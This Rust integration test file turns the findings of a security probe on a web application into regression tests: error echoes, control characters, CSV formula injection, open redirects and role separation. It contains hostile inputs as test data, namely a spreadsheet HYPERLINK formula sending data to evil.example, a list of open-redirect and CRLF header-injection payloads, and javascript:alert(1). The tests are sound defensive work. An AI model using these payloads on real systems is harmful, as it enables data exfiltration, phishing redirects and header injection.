//! Issue 10, "Holds under abuse": each finding of the outside probe as the attack it was, over
//! real HTTP, on both backends.

use crate::{Node, nodes};
use grenzeloos_domain::access::Role;
use reqwest::Method;
use serde_json::{Value, json};

async fn status_json(response: reqwest::Response, status: u16) -> Value {
    let got = response.status().as_u16();
    let body = response.text().await.unwrap();
    assert_eq!(got, status, "{body}");
    serde_json::from_str(&body).unwrap()
}

async fn id_of(node: &Node, role: Role, path: &str, body: Value) -> String {
    let created = status_json(node.send_json(role, Method::POST, path, body).await, 201).await;
    created["id"].as_str().unwrap().to_string()
}

// -- smaller findings ----------------------------------------------------------------------------

/// Finding: an error message repeated the offending value whole, a 15 MiB field included.
#[tokio::test]
async fn error_messages_echo_only_a_short_prefix_of_the_offending_value() {
    let huge = "9".repeat(15 * 1024 * 1024);
    for node in nodes().await {
        // A date field the domain refuses.
        let mission = json!({"name": "Proefmissie", "mandated_by": "EU", "start": huge,
            "countries": "XK", "station": "Pristina"});
        let answer = status_json(
            node.send_json(Role::Policy, Method::POST, "/api/v1/missions", mission)
                .await,
            400,
        )
        .await;
        assert_eq!(answer["field"], "start", "{}", node.backend);
        let message = answer["message"].as_str().unwrap();
        assert!(
            message.len() < 200,
            "{}: {} bytes",
            node.backend,
            message.len()
        );
        assert!(message.starts_with("'9999"), "{message}");
        // A JSON value of the wrong type, which the JSON reader quotes.
        let team = json!({"name": "T", "mission_id": "x", "task": "t", "start": "2024-01-01",
            "contributions": [{"partner": "NL", "officers": huge}]});
        let answer = status_json(
            node.send_json(Role::Policy, Method::POST, "/api/v1/teams", team)
                .await,
            400,
        )
        .await;
        let message = answer["message"].as_str().unwrap();
        assert!(
            message.len() < 400,
            "{}: {} bytes",
            node.backend,
            message.len()
        );
        assert!(message.contains("invalid type: string"), "{message}");
        // A query parameter.
        let long = "7".repeat(8000);
        let answer = status_json(
            node.get(Role::Policy, &format!("/api/v1/missions?as_of={long}"))
                .await,
            400,
        )
        .await;
        assert!(answer["message"].as_str().unwrap().len() < 200);
        // An unknown id in the path.
        let answer = status_json(
            node.get(Role::Policy, &format!("/api/v1/missions/{long}"))
                .await,
            404,
        )
        .await;
        assert!(answer["message"].as_str().unwrap().len() < 200);
    }
}

/// Finding: names and free text took control characters and bidirectional overrides.
#[tokio::test]
async fn names_and_free_text_refuse_control_characters_and_bidirectional_overrides() {
    for node in nodes().await {
        let refused = |path: &'static str, role: Role, body: Value, field: &'static str| {
            let node = &node;
            async move {
                let answer =
                    status_json(node.send_json(role, Method::POST, path, body).await, 400).await;
                assert_eq!(answer["error"], "invalid_character", "{path}: {answer}");
                assert_eq!(answer["field"], field, "{path}: {answer}");
            }
        };
        let officer = |family: &str| json!({"personnel_number": "SEC-1", "given_name": "Jan", "family_name": family, "gender": "male"});
        refused(
            "/api/v1/officers",
            Role::Deployment,
            officer("\u{202e}nesnaJ"),
            "family_name",
        )
        .await;
        refused(
            "/api/v1/officers",
            Role::Deployment,
            officer("Jan\u{85}sen"),
            "family_name",
        )
        .await;
        refused(
            "/api/v1/missions",
            Role::Policy,
            json!({"name": "Missie\nNieuw", "mandated_by": "EU", "start": "2024-01-01",
                "countries": "XK", "station": "Pristina"}),
            "name",
        )
        .await;
        refused(
            "/api/v1/agreements",
            Role::Policy,
            json!({"title": "Verdrag", "kind": "treaty", "status": "negotiating",
                "parties": ["BE"], "subject": "samen\u{7}werking"}),
            "subject",
        )
        .await;
        refused(
            "/api/v1/developments",
            Role::Policy,
            json!({"date": "2024-03-01", "topic": "eu", "title": "Stand",
                "text": "De \u{2066}stand\u{2069} van zaken"}),
            "text",
        )
        .await;
        // A narrative keeps its line breaks.
        let kept = node
            .send_json(
                Role::Policy,
                Method::POST,
                "/api/v1/developments",
                json!({"date": "2024-03-01", "topic": "eu", "title": "Stand",
                    "text": "Eerste alinea.\n\nTweede alinea."}),
            )
            .await;
        assert_eq!(kept.status(), 201, "{}", kept.text().await.unwrap());
    }
}

/// Finding: `.....` passed for the purpose of reading personal data.
#[tokio::test]
async fn a_stated_purpose_must_say_something() {
    for node in nodes().await {
        for empty in [".....", "xxxxxxxx", "12345%2067890", "a%20b"] {
            let answer = status_json(
                node.get(
                    Role::Deployment,
                    &format!("/api/v1/officers?purpose={empty}"),
                )
                .await,
                400,
            )
            .await;
            assert_eq!(answer["error"], "purpose_required", "{empty}");
            assert_eq!(answer["field"], "purpose");
        }
        let read = node
            .get(Role::Deployment, "/api/v1/officers?purpose=rotatie%20EULEX")
            .await;
        assert_eq!(read.status(), 200, "{}", node.backend);
    }
}

/// Finding: a cell starting with `=`, `+`, `-`, `@`, tab or CR went into the CSV exports as it
/// was, and a spreadsheet runs it as a formula.
#[tokio::test]
async fn every_csv_export_shows_formula_cells_as_text() {
    for node in nodes().await {
        // The overview: a mission whose name and station are formulas, with an officer there.
        let mission = id_of(
            &node,
            Role::Policy,
            "/api/v1/missions",
            json!({"name": "=HYPERLINK(\"http://evil.example/\"&A1)", "mandated_by": "EU",
                "start": "2024-01-01", "countries": "XK", "station": "@SUM(A1:A9)"}),
        )
        .await;
        let officer = id_of(
            &node,
            Role::Deployment,
            "/api/v1/officers",
            json!({"personnel_number": "SEC-CSV", "given_name": "Jan", "family_name": "Jansen", "gender": "male"}),
        )
        .await;
        id_of(
            &node,
            Role::Deployment,
            "/api/v1/deployments",
            json!({"officer_id": officer, "mission_id": mission, "function": "Adviseur",
                "start": "2024-02-01", "status": "deployed", "consent_date": "2024-01-15"}),
        )
        .await;
        let csv = node
            .get(
                Role::Policy,
                "/api/v1/reports/deployments?as_of=2024-04-17&format=csv",
            )
            .await
            .text()
            .await
            .unwrap();
        assert!(
            csv.contains("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)\"")
                && csv.contains(",'@SUM(A1:A9),"),
            "{}: {csv}",
            node.backend
        );
        assert!(!csv.contains("\n=") && !csv.contains(",@"), "{csv}");
        // The audit export: a purpose is typed by the user.
        let read = node
            .get(
                Role::Deployment,
                "/api/v1/officers?purpose=%3D1%2B1%20staffing%20review",
            )
            .await;
        assert_eq!(read.status(), 200);
        let export = node.get(Role::Supervisor, "/audit/export.csv").await;
        assert_eq!(export.status(), 200, "{}", node.backend);
        let export = export.text().await.unwrap();
        assert!(
            export.contains(",'=1+1 staffing review,"),
            "{}: {export}",
            node.backend
        );
        assert!(!export.contains(",=1+1"));
    }
}

/// Finding: an update could move a contact record (phone, next of kin) to another officer.
#[tokio::test]
async fn a_contact_record_cannot_be_moved_to_another_officer() {
    for node in nodes().await {
        let purpose = "purpose=bereikbaarheid%20check";
        let contacts: Value = node
            .get(Role::Deployment, &format!("/api/v1/contacts?{purpose}"))
            .await
            .json()
            .await
            .unwrap();
        let first = contacts[0].clone();
        let id = first["id"].as_str().unwrap().to_string();
        let other = id_of(
            &node,
            Role::Deployment,
            "/api/v1/officers",
            json!({"personnel_number": "SEC-MOVE", "given_name": "Els", "family_name": "Elzinga", "gender": "female"}),
        )
        .await;
        let mut moved = first.clone();
        moved["officer_id"] = json!(other);
        let answer = status_json(
            node.send_json(
                Role::Deployment,
                Method::PUT,
                &format!("/api/v1/contacts/{id}"),
                moved,
            )
            .await,
            400,
        )
        .await;
        assert_eq!(
            (answer["error"].as_str(), answer["field"].as_str()),
            (Some("cannot_move"), Some("officer_id")),
            "{}",
            node.backend
        );
        let still: Value = node
            .get(
                Role::Deployment,
                &format!("/api/v1/contacts/{id}?{purpose}"),
            )
            .await
            .json()
            .await
            .unwrap();
        assert_eq!(still["officer_id"], first["officer_id"]);
        assert_eq!(still["versions"].as_array().unwrap().len(), 1);
        // Changing the contact itself still works.
        let mut changed = first.clone();
        changed["phone"] = json!("+31 6 1234 5678");
        let saved = node
            .send_json(
                Role::Deployment,
                Method::PUT,
                &format!("/api/v1/contacts/{id}"),
                changed,
            )
            .await;
        assert_eq!(saved.status(), 200, "{}", saved.text().await.unwrap());
    }
}

// -- redirects -----------------------------------------------------------------------------------

/// The tricks that made `next` leave the site, or break the answer (a 500 for CR/LF).
const FOREIGN_NEXT: &[&str] = &[
    "/%09/evil.example",
    "//evil.example",
    "/%5Cevil.example",
    "/%5C/evil.example",
    "%5C%5Cevil.example",
    "/%0D%0ASet-Cookie:%20x=1",
    "/%0A/evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "%20/evil.example",
    "/%20/evil.example",
    "/%C2%A0/evil.example",
    "/%00/evil.example",
    "/%E2%80%AE/evil.example",
];

/// Finding: `GET /lang/en?next=/%09/evil.example` answered `303 Location: /\t/evil.example`,
/// which browsers follow to `http://evil.example/`; a CR or LF there gave a 500.
#[tokio::test]
async fn the_language_switch_goes_back_only_to_a_page_of_this_site() {
    for node in nodes().await {
        for next in FOREIGN_NEXT {
            let answer = node
                .http
                .get(node.url(&format!("/lang/en?next={next}")))
                .send()
                .await
                .unwrap();
            assert_eq!(answer.status(), 303, "{}: {next}", node.backend);
            assert_eq!(answer.headers()["location"], "/", "{next}");
        }
        let answer = node
            .http
            .get(node.url("/lang/en?next=/missions%3Fas_of%3D2024-04-17"))
            .send()
            .await
            .unwrap();
        assert_eq!(answer.headers()["location"], "/missions?as_of=2024-04-17");
    }
}

/// The same for the page after signing in (the form's hidden field, and the form posted) and
/// after stating a purpose.
#[tokio::test]
async fn sign_in_and_the_purpose_page_go_on_only_to_a_page_of_this_site() {
    for node in nodes().await {
        for next in FOREIGN_NEXT {
            let page = node
                .http
                .get(node.url(&format!("/login?next={next}")))
                .send()
                .await
                .unwrap();
            assert_eq!(page.status(), 200, "{next}");
            let html = page.text().await.unwrap();
            assert!(
                html.contains("name=\"next\" value=\"/\""),
                "{}: {next}",
                node.backend
            );
            let body = format!("username=r-policy&password=test+password+123&next={next}");
            let signed_in = node
                .http
                .post(node.url("/login"))
                .header("content-type", "application/x-www-form-urlencoded")
                .body(body)
                .send()
                .await
                .unwrap();
            assert_eq!(signed_in.status(), 303, "{next}");
            assert_eq!(signed_in.headers()["location"], "/", "{next}");
            let cookie = signed_in.headers()["set-cookie"]
                .to_str()
                .unwrap()
                .split(';')
                .next()
                .unwrap()
                .to_string();
            let stated = node
                .http
                .post(node.url("/purpose"))
                .header("cookie", &cookie)
                .header("x-csrf-token", csrf_of(&node, &cookie).await)
                .header("content-type", "application/x-www-form-urlencoded")
                .body(format!("purpose=rotatie+EULEX&next={next}"))
                .send()
                .await
                .unwrap();
            assert_eq!(stated.status(), 303, "{next}");
            assert_eq!(stated.headers()["location"], "/", "{next}");
        }
    }
}

/// The CSRF token of a signed-in cookie session, from `GET /api/v1/session`.
async fn csrf_of(node: &Node, cookie: &str) -> String {
    let me: Value = node
        .http
        .get(node.url("/api/v1/session"))
        .header("cookie", cookie)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    me["csrf_token"].as_str().unwrap().to_string()
}

// -- separation of duties -------------------------------------------------------------------------

/// Finding: an admin could give itself the supervisor role and then read the audit trail.
#[tokio::test]
async fn an_admin_cannot_give_itself_the_supervisor_role_over_the_api_or_the_page() {
    for node in nodes().await {
        let users: Value = node
            .get(Role::Admin, "/api/v1/users")
            .await
            .json()
            .await
            .unwrap();
        let own = users
            .as_array()
            .unwrap()
            .iter()
            .find(|u| u["username"] == "r-admin")
            .unwrap()["id"]
            .as_str()
            .unwrap()
            .to_string();
        for (roles, code) in [
            (json!(["admin", "supervisor"]), "separation_of_duties"),
            (json!(["supervisor"]), "own_roles"),
        ] {
            let answer = status_json(
                node.send_json(
                    Role::Admin,
                    Method::PUT,
                    &format!("/api/v1/users/{own}"),
                    json!({"roles": roles, "active": true}),
                )
                .await,
                400,
            )
            .await;
            assert_eq!(answer["error"], code, "{}", node.backend);
            assert_eq!(answer["field"], "roles");
        }
        let created = status_json(
            node.send_json(
                Role::Admin,
                Method::POST,
                "/api/v1/users",
                json!({"username": "beide", "roles": ["admin", "supervisor"], "password": "long enough password"}),
            )
            .await,
            400,
        )
        .await;
        assert_eq!(created["error"], "separation_of_duties");
        // The page refuses the same (the form posts the checkboxes).
        let page = node
            .as_role(
                Role::Admin,
                node.http.post(node.url(&format!("/users/{own}"))).form(&[
                    ("role", "admin"),
                    ("role", "supervisor"),
                    ("active", "true"),
                ]),
            )
            .send()
            .await
            .unwrap();
        assert_eq!(page.status(), 400, "{}", node.backend);
        assert!(page.text().await.unwrap().contains("toezichthouder"));
        // Still no audit trail for the admin.
        assert_eq!(node.get(Role::Admin, "/api/v1/audit").await.status(), 403);
    }
}
